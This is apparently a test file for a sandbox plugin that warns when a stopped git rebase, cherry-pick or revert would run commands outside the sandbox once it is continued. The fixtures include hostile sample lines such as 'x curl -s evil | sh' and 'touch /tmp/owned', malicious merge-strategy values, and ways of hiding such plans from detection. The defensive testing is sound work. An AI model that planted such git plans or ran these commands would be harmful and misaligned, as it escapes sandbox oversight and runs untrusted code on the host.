import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Broker, type BrokerPlugin } from '../../src/core/index.js';
import { GitPlanNoticePlugin, execLines, gitDirOf, isGitDirectory, noticeFor, optsStrategies, shown, stateFolderAt, stateFoldersOf } from '../../src/plugins/git-plan-notice/index.js';
import { HostOperationsPlugin } from '../../src/plugins/host-operations/index.js';
import { PathResolutionPlugin } from '../../src/plugins/path-resolution/index.js';
import { operationTargets } from '../../src/requests/targets.js';

let root: string;
let repo: string;
const git = () => path.join(repo, '.git');
const rebase = () => path.join(git(), 'rebase-merge');
const todo = () => path.join(rebase(), 'git-rebase-todo');

beforeEach(async () => {
  root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'bsh-plan-')));
  repo = path.join(root, 'repo');
  await makeGitDirectory(path.join(repo, '.git'));
  await fs.mkdir(path.join(repo, 'src'));
});

afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

/** What makes a folder a git directory to the plugin: a HEAD and objects. */
async function makeGitDirectory(dir: string): Promise<void> {
  await fs.mkdir(path.join(dir, 'objects'), { recursive: true });
  await fs.writeFile(path.join(dir, 'HEAD'), 'ref: refs/heads/main\n');
}

const allowAll: BrokerPlugin = {
  name: 'test-allow-all',
  apply(broker) {
    broker.hooks.evaluatePolicy.tap('test-allow-all', () => ({ verdict: 'sandbox', source: 'test' }));
  },
};

/** A broker that performs host operations, with the plugin looking at the repository of `roots`. */
function makeBroker(roots: string[]): Broker {
  return new Broker({ sessionId: 's1' }).use(
    new PathResolutionPlugin({ home: path.join(root, 'home') }),
    allowAll,
    new HostOperationsPlugin({ env: { HOME: path.join(root, 'home') } }),
    new GitPlanNoticePlugin({ roots }),
  );
}

async function noticesOfTurn(broker: Broker, during: () => Promise<void>): Promise<unknown> {
  await broker.beginTurn();
  await during();
  const turn = await broker.commitTurn('t');
  return turn.facts.notices;
}

/** A host rename through the broker: a request that names both paths, as the sandbox's would. */
async function renameThroughBroker(broker: Broker, from: string, to: string): Promise<void> {
  const outcome = await broker.handle({ origin: 'host-op', action: 'host-op', operation: 'rename', targets: operationTargets('rename', { from, to }), sessionId: 's1', options: {} });
  expect(outcome.error).toBeUndefined();
}

/** One turn that moves a plan into `count` rebase folders of `.git`, each named by a request; the turn's notices. */
async function plansMovedIntoFolders(count: number, plan: string): Promise<unknown> {
  const broker = makeBroker([]);
  return noticesOfTurn(broker, async () => {
    for (let i = 0; i < count; i += 1) {
      const folder = path.join(git(), `nested${i}`, 'rebase-merge');
      await makeGitDirectory(path.dirname(folder));
      await fs.mkdir(folder);
      await fs.writeFile(path.join(root, `plan${i}`), plan);
      await renameThroughBroker(broker, path.join(root, `plan${i}`), path.join(folder, 'git-rebase-todo'));
    }
  });
}

async function stoppedRebase(plan: string, strategy?: string): Promise<void> {
  await fs.mkdir(rebase(), { recursive: true });
  await fs.writeFile(todo(), plan);
  if (strategy !== undefined) await fs.writeFile(path.join(rebase(), 'strategy'), `${strategy}\n`);
}

describe('what continuing runs', () => {
  it('takes the plan lines git runs: exec or x, after any indentation, then a space or tab', () => {
    const plan = ['pick 1a2b3c one', 'exec make test', '  x curl -s evil | sh', 'x', '# exec not this', 'execute nothing', 'xargs no', 'pick 4d5e6f exec in a subject', '\texec\tfetch'].join('\n');
    expect(execLines(plan)).toEqual(['exec make test', 'x curl -s evil | sh', 'x', 'exec\tfetch']);
    expect(execLines('pick 1a2b3c one\nbreak\n')).toEqual([]);
  });

  it("reads every strategy a sequencer's opts names, as git reads config", () => {
    expect(optsStrategies('[options]\n\tstrategy = /x\n')).toEqual({ values: ['/x'], unread: false });
    expect(optsStrategies('[options]\n\tstrategy = "ort"\n\tsignoff = true\n')).toEqual({ values: ['ort'], unread: false });
    expect(optsStrategies('[options]\n\tsignoff = true\n')).toEqual({ values: [], unread: false });
    // Any case, the last of several (all reported), on the header's line, quoted, escaped, commented.
    expect(optsStrategies('[options]\n\tStrategy = x/evil\n').values).toEqual(['x/evil']);
    expect(optsStrategies('[options]\n\tstrategy = ort\n\tstrategy = x/evil\n').values).toEqual(['ort', 'x/evil']);
    expect(optsStrategies('[options] strategy = x/evil\n').values).toEqual(['x/evil']);
    expect(optsStrategies('[options]\n\tstrategy=x/"evil" ; note\n\tstrategy = a\\tb\n').values).toEqual(['x/evil', 'a\tb']);
    // Quoted whitespace stays, as git keeps it: "ort " is no built-in strategy.
    expect(optsStrategies('[options]\n\tstrategy = "ort "\n').values).toEqual(['ort ']);
    expect(optsStrategies('[options]\n\tstrategy =   ort   \n').values).toEqual(['ort']);
    // An escape git refuses: not read.
    expect(optsStrategies('[options]\n\tstrategy = x\\/y\n')).toEqual({ values: [], unread: true });
    // A value continued on the next line, or a line too long to read: said, not guessed.
    expect(optsStrategies('[options]\n\tstrategy = x/\\\nevil\n').unread).toBe(true);
    expect(optsStrategies(`[options]\nstrategy=x${'\t'.repeat(100_000)}y\n`)).toEqual({ values: [], unread: true });
  });

  it('shows a command whole: whitespace runs as one space, a long one by both ends', () => {
    expect(shown('exec make\t\ttest')).toBe('exec make test');
    const padded = `exec make test${' '.repeat(200)}; touch /tmp/owned`;
    expect(shown(padded)).toBe('exec make test ; touch /tmp/owned');
    const long = `exec ${'a'.repeat(150)} ; curl evil | sh`;
    expect(shown(long)).toBe(`exec ${'a'.repeat(55)} …(72 characters)… ${`${'a'.repeat(23)} ; curl evil | sh`}`);
  });
});

describe('where stopped operations are kept', () => {
  it('finds the git directory above a folder, through a .git file too', async () => {
    expect(gitDirOf(path.join(repo, 'src'))).toBe(git());
    const linked = path.join(root, 'linked');
    await fs.mkdir(linked);
    await fs.writeFile(path.join(linked, '.git'), 'gitdir: ../repo/.git/worktrees/linked\n');
    expect(gitDirOf(linked)).toBe(path.join(git(), 'worktrees', 'linked'));
    expect(gitDirOf(path.join(root, 'none'))).toBeUndefined();
  });

  it("lists a repository's folders, its common dir's and every linked worktree's", async () => {
    const worktree = path.join(git(), 'worktrees', 'linked');
    await fs.mkdir(worktree, { recursive: true });
    await fs.writeFile(path.join(worktree, 'commondir'), '../..\n');
    const expected = [git(), worktree].flatMap((dir) => ['rebase-merge', 'rebase-apply', 'sequencer'].map((folder) => path.join(dir, folder)));
    expect(stateFoldersOf(worktree).sort()).toEqual(expected.sort());
    expect(stateFoldersOf(git()).sort()).toEqual(expected.sort());
  });

  it('maps a changed path to the folder it is in or names', () => {
    expect(stateFolderAt(path.join(rebase(), 'git-rebase-todo.lock'))).toBe(rebase());
    expect(stateFolderAt(rebase())).toBe(rebase());
    expect(stateFolderAt(path.join(git(), 'modules', 'sub', 'sequencer', 'todo'))).toBe(path.join(git(), 'modules', 'sub', 'sequencer'));
    expect(stateFolderAt(path.join(repo, 'src', 'main.c'))).toBeUndefined();
  });

  it('counts a stopped operation only in a git directory: a HEAD with objects or commondir', async () => {
    expect(isGitDirectory(git())).toBe(true);
    // A bare repository; a linked worktree's git dir.
    await makeGitDirectory(path.join(root, 'bare'));
    expect(isGitDirectory(path.join(root, 'bare'))).toBe(true);
    await fs.mkdir(path.join(git(), 'worktrees', 'w'), { recursive: true });
    await fs.writeFile(path.join(git(), 'worktrees', 'w', 'HEAD'), 'ref: refs/heads/w\n');
    await fs.writeFile(path.join(git(), 'worktrees', 'w', 'commondir'), '../..\n');
    expect(isGitDirectory(path.join(git(), 'worktrees', 'w'))).toBe(true);
    // A source folder; a remote's HEAD folder and the reflog (a branch may be called sequencer).
    expect(isGitDirectory(path.join(repo, 'src'))).toBe(false);
    await fs.mkdir(path.join(git(), 'refs', 'remotes', 'origin'), { recursive: true });
    await fs.writeFile(path.join(git(), 'refs', 'remotes', 'origin', 'HEAD'), 'ref: refs/remotes/origin/main\n');
    expect(isGitDirectory(path.join(git(), 'refs', 'remotes', 'origin'))).toBe(false);
    await fs.mkdir(path.join(git(), 'logs'));
    await fs.writeFile(path.join(git(), 'logs', 'HEAD'), '');
    expect(isGitDirectory(path.join(git(), 'logs'))).toBe(false);
  });
});

describe('noticeFor', () => {
  it('names the commands, a strategy that is a program, the folder and the way out', async () => {
    await stoppedRebase('pick 1a2b3c one\nexec touch /tmp/owned\n', '/x');
    expect(noticeFor(rebase())).toBe(
      `a stopped rebase left in ${git()} will run outside the sandbox at git rebase --continue: exec touch /tmp/owned | the merge strategy "/x", a program (git-merge-/x); read ${rebase()} first, or git rebase --abort`,
    );
  });

  it('says a stopped operation is there even when it names nothing to run', async () => {
    await stoppedRebase('pick 1a2b3c one\n', 'ort');
    expect(noticeFor(rebase())).toBe(`a stopped rebase left in ${git()} is carried out at git rebase --continue, outside the sandbox: read ${rebase()} first, or git rebase --abort`);
    const sequencer = path.join(git(), 'sequencer');
    await fs.mkdir(sequencer);
    await fs.writeFile(path.join(sequencer, 'opts'), '[options]\n\tstrategy = evil\n');
    expect(noticeFor(sequencer)).toContain('will run outside the sandbox at git cherry-pick --continue or git revert --continue: the merge strategy "evil", a program (git-merge-evil)');
  });

  it('says what it could not read instead of taking it for harmless', async () => {
    await stoppedRebase(`exec touch /tmp/owned\n${'#'.repeat(1_100_000)}\n`);
    expect(noticeFor(rebase())).toContain(`will run outside the sandbox at git rebase --continue: git-rebase-todo was not read (1100023 bytes): it may run anything;`);
    const sequencer = path.join(git(), 'sequencer');
    await fs.mkdir(sequencer);
    await fs.writeFile(path.join(sequencer, 'opts'), '[options]\n\tstrategy = x/\\\nevil\n');
    expect(noticeFor(sequencer)).toContain('at git cherry-pick --continue or git revert --continue: opts names a merge strategy in a form not read here: it may run a program;');
  });

  it('counts commands past the first ten', async () => {
    await stoppedRebase(Array.from({ length: 12 }, (_, i) => `x step${i}`).join('\n'));
    expect(noticeFor(rebase())).toContain('x step9 | and 2 more commands;');
  });

  it('opens no FIFO and no symlink, and says it did not', async () => {
    await fs.mkdir(rebase());
    execFileSync('mkfifo', [todo()]);
    await fs.symlink(path.join(root, 'elsewhere'), path.join(rebase(), 'strategy'));
    await fs.writeFile(path.join(root, 'elsewhere'), '/x\n');
    expect(noticeFor(rebase())).toBe(
      `a stopped rebase left in ${git()} will run outside the sandbox at git rebase --continue: git-rebase-todo was not read (not a regular file): it may run anything | strategy was not read (not a regular file): it may run anything; read ${rebase()} first, or git rebase --abort`,
    );
  });
});

describe('GitPlanNoticePlugin', () => {
  it('reports a stopped operation the turn left, and not the same one in the next turn', async () => {
    const broker = makeBroker([path.join(repo, 'src')]);
    const notices = await noticesOfTurn(broker, () => stoppedRebase('pick 1a2b3c one\nexec ./run-me\n'));
    expect(notices).toEqual([expect.stringContaining('will run outside the sandbox at git rebase --continue: exec ./run-me;')]);
    // Left as it was: the person has been told, and it may be their own rebase.
    expect(await noticesOfTurn(broker, async () => {})).toBeUndefined();
    // Anything in it changed, even a file that names no command: told again.
    expect(await noticesOfTurn(broker, () => fs.writeFile(path.join(rebase(), 'message'), 'm\n'))).toEqual([expect.stringContaining('at git rebase --continue: exec ./run-me;')]);
    // Finished or aborted (the folder gone): nothing to say.
    expect(await noticesOfTurn(broker, () => fs.rm(rebase(), { recursive: true }))).toBeUndefined();
  });

  it('follows a folder outside its roots from the first request that names it, as it was before', async () => {
    const other = path.join(root, 'other');
    await makeGitDirectory(path.join(other, '.git'));
    await fs.mkdir(path.join(other, '.git', 'sequencer'));
    const opts = path.join(other, '.git', 'sequencer', 'opts');
    await fs.writeFile(opts, '[options]\n\tstrategy = ort\n');
    const staged = path.join(other, 'staged');
    // The roots' repository has no stopped operation: only the requests name this one.
    const broker = makeBroker([path.join(repo, 'src')]);
    await fs.writeFile(staged, '[options]\n\tstrategy = ort\n\tsignoff = true\n');
    expect(await noticesOfTurn(broker, () => renameThroughBroker(broker, staged, path.join(other, 'moved')))).toBeUndefined();
    await fs.writeFile(staged, '[options]\n\tstrategy = /x\n');
    const notices = await noticesOfTurn(broker, () => renameThroughBroker(broker, staged, opts));
    expect(notices).toEqual([
      `a stopped cherry-pick or revert left in ${path.join(other, '.git')} will run outside the sandbox at git cherry-pick --continue or git revert --continue: the merge strategy "/x", a program (git-merge-/x); read ${path.join(other, '.git', 'sequencer')} first, or git cherry-pick --abort or git revert --abort`,
    ]);
  });

  it('follows a bounded number of folders and says how many more there are', async () => {
    const notices = await plansMovedIntoFolders(20, 'x one\n');
    expect(notices).toHaveLength(17);
    expect((notices as string[])[16]).toMatch(/^and 4 more stopped git operations the command left: /);
  });

  it('never takes a folder with more entries than it watches for unchanged', async () => {
    await stoppedRebase('pick 1a2b3c one\n');
    await Promise.all(Array.from({ length: 10_001 }, (_, i) => fs.writeFile(path.join(rebase(), String(i).padStart(5, '0')), '')));
    const broker = makeBroker([repo]);
    expect(await noticesOfTurn(broker, async () => {})).toEqual([expect.stringContaining(`a stopped rebase left in ${git()} is carried out`)]);
  });

  it("looks at the submodules' git dirs of its roots' repository without a request naming them", async () => {
    const module = path.join(git(), 'modules', 'libs', 'core');
    await makeGitDirectory(module);
    const broker = makeBroker([repo]);
    const notices = await noticesOfTurn(broker, async () => {
      await fs.mkdir(path.join(module, 'rebase-merge'));
      await fs.writeFile(path.join(module, 'rebase-merge', 'git-rebase-todo'), 'exec in-a-submodule\n');
    });
    expect(notices).toEqual([expect.stringContaining(`a stopped rebase left in ${module} will run outside the sandbox at git rebase --continue: exec in-a-submodule;`)]);
  });

  it('looks into a folder moved into a git directory whole', async () => {
    const staged = path.join(root, 'staged');
    await makeGitDirectory(staged);
    await fs.mkdir(path.join(staged, 'rebase-merge'));
    await fs.writeFile(path.join(staged, 'rebase-merge', 'git-rebase-todo'), 'x moved-in\n');
    const broker = makeBroker([]);
    const landed = path.join(git(), 'modules', 'sub');
    await fs.mkdir(path.dirname(landed), { recursive: true });
    const notices = await noticesOfTurn(broker, () => renameThroughBroker(broker, staged, landed));
    expect(notices).toEqual([expect.stringContaining(`a stopped rebase left in ${landed} will run outside the sandbox at git rebase --continue: x moved-in;`)]);
  });

  it('says so when a turn names more such folders than it follows', async () => {
    const notices = await plansMovedIntoFolders(258, 'pick 1a2b3c one\n');
    const past = [256, 257].map((i) => path.join(git(), `nested${i}`, 'rebase-merge')).join(', ');
    expect((notices as string[]).at(-1)).toBe(
      `the command changed 2 more places where git keeps a stopped rebase, am, cherry-pick or revert than were looked at (256): ${past}; read what git would continue in each repository there before continuing it`,
    );
  });

  it("does not count its roots' own folders against that limit", async () => {
    // 100 submodules: 303 folders followed from the turn's start.
    await Promise.all(Array.from({ length: 100 }, (_, i) => makeGitDirectory(path.join(git(), 'modules', `m${i}`))));
    const other = path.join(root, 'other', '.git');
    await makeGitDirectory(other);
    await fs.writeFile(path.join(root, 'plan'), 'exec elsewhere\n');
    await fs.mkdir(path.join(other, 'rebase-merge'));
    const broker = makeBroker([repo]);
    const notices = await noticesOfTurn(broker, () => renameThroughBroker(broker, path.join(root, 'plan'), path.join(other, 'rebase-merge', 'git-rebase-todo')));
    expect(notices).toEqual([expect.stringContaining(`a stopped rebase left in ${other} will run outside the sandbox at git rebase --continue: exec elsewhere;`)]);
  });

  it('asks whether a folder is a git directory at the commit, when the person would continue', async () => {
    // Another repository of the workspace, not its roots' own: only requests name it.
    const other = path.join(root, 'other', '.git');
    await makeGitDirectory(other);
    await fs.writeFile(path.join(root, 'plan'), 'exec hidden-then-back\n');
    const broker = makeBroker([path.join(repo, 'src')]);
    const hideObjects = () => renameThroughBroker(broker, path.join(other, 'objects'), path.join(other, 'objects.hidden'));
    const putBack = () => renameThroughBroker(broker, path.join(other, 'objects.hidden'), path.join(other, 'objects'));
    const writePlan = async () => {
      await fs.mkdir(path.join(other, 'rebase-merge'));
      await renameThroughBroker(broker, path.join(root, 'plan'), path.join(other, 'rebase-merge', 'git-rebase-todo'));
    };
    // objects taken away while the plan is written, and put back in the same turn: named.
    const sameTurn = await noticesOfTurn(broker, async () => {
      await hideObjects();
      await writePlan();
      await putBack();
    });
    expect(sameTurn).toEqual([expect.stringContaining(`a stopped rebase left in ${other} will run outside the sandbox at git rebase --continue: exec hidden-then-back;`)]);
    // Put back only in a later turn: no git directory at the first commit, named at the second.
    await fs.rm(path.join(other, 'rebase-merge'), { recursive: true });
    await fs.writeFile(path.join(root, 'plan'), 'exec hidden-then-back\n');
    expect(await noticesOfTurn(broker, async () => {
      await hideObjects();
      await writePlan();
    })).toBeUndefined();
    expect(await noticesOfTurn(broker, putBack)).toEqual([expect.stringContaining('exec hidden-then-back;')]);
  });

  it('says nothing of a folder so named that is in no git directory', async () => {
    const broker = makeBroker([repo]);
    const folder = path.join(repo, 'src', 'sequencer');
    await fs.mkdir(folder);
    await fs.writeFile(path.join(root, 'step'), 'x axis labels\n');
    expect(await noticesOfTurn(broker, () => renameThroughBroker(broker, path.join(root, 'step'), path.join(folder, 'todo')))).toBeUndefined();
  });

  it("takes a rebase's strategy file as git does: all but its newline", async () => {
    await stoppedRebase('pick 1a2b3c one\n', 'ort ');
    expect(noticeFor(rebase())).toContain('the merge strategy "ort ", a program (git-merge-ort );');
  });

  it("keeps other plugins' notices", async () => {
    const earlier: BrokerPlugin = {
      name: 'test-earlier-notice',
      apply(broker) {
        broker.hooks.turnCommitting.tap({ name: 'test-earlier-notice', stage: -1 }, (turn) => {
          turn.facts.notices = ['from another plugin'];
        });
      },
    };
    const broker = makeBroker([repo]).use(earlier);
    const notices = await noticesOfTurn(broker, () => stoppedRebase('exec one\n'));
    expect(notices).toEqual(['from another plugin', expect.stringContaining('exec one')]);
  });
});
